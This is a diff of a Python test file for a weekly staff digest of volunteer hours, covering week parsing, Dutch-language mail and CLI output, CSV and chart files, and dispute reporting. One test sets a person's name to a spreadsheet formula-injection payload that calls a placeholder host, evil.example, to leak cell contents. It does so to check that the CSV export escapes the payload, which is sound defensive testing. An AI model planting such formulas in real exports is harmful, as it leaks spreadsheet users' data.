@@ -32,10 +32,10 @@ from handlers.staff.digest import (
     last_complete_week,
     named_week,
     parse_week,
-    render_chart,
     send_weekly_digests,
     week_of,
 )
+from handlers.staff.digest_files import render_chart
 from storage import hours, outbox
 from storage.buddies import claim_invite, create_invite
 from storage.clock import iso
@@ -188,9 +188,15 @@ def names(people: list[Any]) -> list[str]:
 
 async def test_weeks() -> None:
     assert parse_week("2026-W48") == (2026, 48) and parse_week("2026w1") == (2026, 1)
-    for bad in ("2026-48", "W48", "2025-W53", "2026-W00", "x"):
+    for bad in ("2026-48", "2025-W53", "2026-W00", "0", "54", "x"):
         with pytest.raises(ValueError):
-            parse_week(bad)
+            parse_week(bad, date(2026, 12, 7))
+    # A bare number is the most recent week with that number that has begun.
+    assert parse_week("49", date(2026, 12, 7)) == (2026, 49)  # Monday of week 50
+    assert parse_week("W50", date(2026, 12, 7)) == (2026, 50)
+    assert parse_week("51", date(2026, 12, 7)) == (2025, 51)  # week 51 of 2026 is ahead
+    with pytest.raises(ValueError):  # 2026-W53 is ahead and 2025 had no week 53
+        parse_week("53", date(2026, 12, 7))
     week = named_week(WEEK, CONFIG)
     assert week.monday == date(2026, 11, 23) and week.sunday == date(2026, 11, 29)
     assert week.start == datetime(2026, 11, 22, 23, 0, tzinfo=UTC)  # local midnight, CET
@@ -250,13 +256,21 @@ async def test_the_digest_mail(seeded: Seeded, smtp: SmtpCapture, tmp_path: Path
     [chart] = [p for p in mail.walk() if p.get_content_type() == "image/png"]
     assert chart.get_content().startswith(b"\x89PNG")
     assert f"cid:{str(chart['Content-ID']).strip('<>')}" in page
-    [attachment] = [p for p in mail.walk() if p.get_filename()]
+    attachment, explained = [p for p in mail.walk() if p.get_filename()]
     assert attachment.get_filename() == "meedoen-westhoek-2026-W48.csv"
+    assert explained.get_filename() == "meedoen-westhoek-2026-W48-uitleg.txt"
     table = list(csv.reader(io.StringIO(attachment.get_payload(decode=True).decode("utf-8-sig")),
                             delimiter=";"))  # fmt: skip
     assert [row[1] for row in table[1:]] == ["Amal", "Bea", "Carl", "Omar"]
     bea = table[2]
     assert bea[6] == "40,00" and "Doel bereikt" in bea[5]  # staff read the digest in Dutch
+    header = table[0]
+    assert len(set(header)) == len(header)  # one "Buddy" column no more: kind and name differ
+    help_text = explained.get_payload(decode=True).decode("utf-8")
+    for column in header:
+        assert f"\n{column}: " in help_text, column  # every column is explained
+    omar = dict(zip(header, table[4], strict=True))
+    assert "omar@mail.example" in omar.values() and "Telegram" not in omar.values()
     [gent] = smtp.to(GENT_STAFF)
     for name in ("Amal", "Bea", "Carl", "Omar"):
         assert name not in text_of(gent)
@@ -280,17 +294,32 @@ async def test_the_cli_prints_or_sends_once(
     out = io.StringIO()
     code, note = await digest_cli(settings, "westhoek", WEEK, True, out=out,
                                   clock=seeded.clock, config=CONFIG)  # fmt: skip
-    assert code == 0 and "would go to team@westhoek.example" in note and "not sent yet" in note
+    assert code == 0 and "zou gaan naar team@westhoek.example" in note
+    assert "nog niet verstuurd" in note  # staff read the command line in Dutch
     printed = out.getvalue()
     assert "Omar" in printed and "meedoen-westhoek-2026-W48.csv" in printed
     assert smtp.messages == [] and await seeded.rows("SELECT * FROM digests_sent") == []
 
+    # --week 48 is the same week; --out writes what the mail would hold, to look at.
+    folder = tmp_path / "proef"
+    code, note = await digest_cli(settings, "Westhoek", "48", True, folder=folder,
+                                  out=io.StringIO(), clock=seeded.clock, config=CONFIG)  # fmt: skip
+    assert code == 0 and "2026-W48" in note and str(folder) in note
+    files = sorted(p.name for p in folder.iterdir())
+    assert files == ["digest.html", "digest.txt", "meedoen-westhoek-2026-W48-uitleg.txt",
+                     "meedoen-westhoek-2026-W48.csv", "uren-2026-W48.png"]  # fmt: skip
+    page = (folder / "digest.html").read_text()
+    assert 'src="uren-2026-W48.png"' in page and "Omar" in page  # the picture shows offline
+    assert (folder / "uren-2026-W48.png").read_bytes().startswith(b"\x89PNG")
+    assert "Omar" in (folder / "digest.txt").read_text()
+    assert smtp.messages == [] and await seeded.rows("SELECT * FROM digests_sent") == []
+
     code, note = await digest_cli(settings, "Westhoek", WEEK, False, clock=seeded.clock,
                                   config=CONFIG)  # fmt: skip
-    assert (code, note) == (0, "Westhoek 2026-W48: sent to 1 staff")
+    assert (code, note) == (0, "Westhoek 2026-W48: verstuurd naar 1 medewerker(s)")
     code, note = await digest_cli(settings, "Westhoek", WEEK, False, clock=seeded.clock,
                                   config=CONFIG)  # fmt: skip
-    assert code == 0 and "already sent" in note
+    assert code == 0 and "al verstuurd" in note
     assert len(smtp.to(WESTHOEK_STAFF)) == 1
     assert await seeded.rows("SELECT status FROM outbox WHERE purpose = 'digest'") == [
         {"status": "sent"}
@@ -301,11 +330,15 @@ async def test_the_cli_prints_or_sends_once(
 async def test_the_cli_refuses_bad_input(seeded: Seeded, tmp_path: Path) -> None:
     settings = mail_settings(tmp_path)
     assert (await digest_cli(settings, "Atlantis", None, True, config=CONFIG))[0] == 2
-    assert (await digest_cli(settings, "Westhoek", "2026-W60", True, config=CONFIG))[0] == 2
+    code, note = await digest_cli(settings, "Westhoek", "2026-W60", True, config=CONFIG)
+    assert code == 2 and "2026-W49" in note  # the way forward: how to write a week
+    code, note = await digest_cli(settings, "Westhoek", WEEK, False, folder=tmp_path,
+                                  config=CONFIG)  # fmt: skip
+    assert code == 2 and "--dry-run" in note
     code, note = await digest_cli(settings, "Westhoek", WEEK, False, config=CONFIG)
     assert code == 2 and "SMTP_HOST" in note
     code, note = await digest_cli(settings, "Waasland", WEEK, False, config=CONFIG)
-    assert code == 2 and "no staff" in note
+    assert code == 2 and "geen medewerkers" in note
 
 
 def test_the_chart_is_a_picture() -> None:
@@ -431,3 +464,44 @@ async def test_the_monday_tick_queues_last_weeks_digests_once(seeded: Seeded) ->
         assert await weekly_digest_tick(tx, CONFIG, RUN_AT) == 0
     weeks = await seeded.rows("SELECT DISTINCT week FROM digests_sent")
     assert weeks == [{"week": WEEK}]
+
+
+async def test_disputes_stuck_mail_nudges_and_units_are_in_the_digest(seeded: Seeded) -> None:
+    """The issue's complaints: the disputed entry listed nowhere, figures without unit, a
+    provider mail unsent for days counted as no problem, a name that runs in Excel."""
+    evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
+    async with seeded.db.transaction() as tx:
+        await hours.set_note(tx, seeded.entries["bea_sunday"], "logger", "I was there", at(29, 23))
+        # Queued on Thursday for Carl and never sent: stuck. One queued Sunday night is not yet.
+        for key, when in (("stuck", at(26)), ("fresh", at(29, 20))):
+            await outbox.enqueue(tx, key=key, person_id=seeded.people["carl"].id,
+                                 channel="email", address="carl@mail.example",
+                                 purpose="confirm_request", payload="[]", now=when)  # fmt: skip
+        omar = seeded.people["omar"]
+        await tx.execute(
+            "INSERT INTO nudges (person_id, network_id, staff_email, sent_at) VALUES (?, ?, ?, ?)",
+            (omar.id, omar.network_id, WESTHOEK_STAFF, iso(at(27))),
+        )
+        await tx.execute("UPDATE people SET display_name = ? WHERE id = ?",
+                         (evil, seeded.people["bea"].id))  # fmt: skip
+    figures = await seeded.figures()
+    [dispute] = figures.disputes
+    assert dispute["id"] == seeded.entries["bea_sunday"] and dispute["logger_note"] == "I was there"
+    assert [s["purpose"] for s in figures.stuck] == ["confirm_request"]
+    assert [name for name, _ in figures.nudged] == ["Omar"]
+    assert (await seeded.figures("Gent")).disputes == []  # Gent's staff never see Bea's
+
+    from handlers.staff.digest_render import digest_replies
+
+    replies = digest_replies(figures, CONFIG)
+    summary = replies[0].text
+    assert "⏱️ Geregistreerde uren: 4 u bevestigd, 3,5 u in afwachting, 1 u betwist" in summary
+    assert "Actief deze week: 3 personen" in summary
+    assert "na 24 uur nog niet verstuurd: 1 bericht" in summary and "mislukt: 1 bericht" in summary
+    assert "duwtje gestuurd: 1 persoon" in summary
+    listed = "\n".join(r.text for r in replies)
+    assert f"code G{dispute['id']}" in listed and "I was there" in listed
+    assert "niet verstuurd sinds" in listed
+    [table] = [r.document for r in replies if r.document and r.document.mime == "text/csv"]
+    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig")), delimiter=";"))
+    assert ["'" + evil] == [row[1] for row in rows if "HYPERLINK" in row[1]]
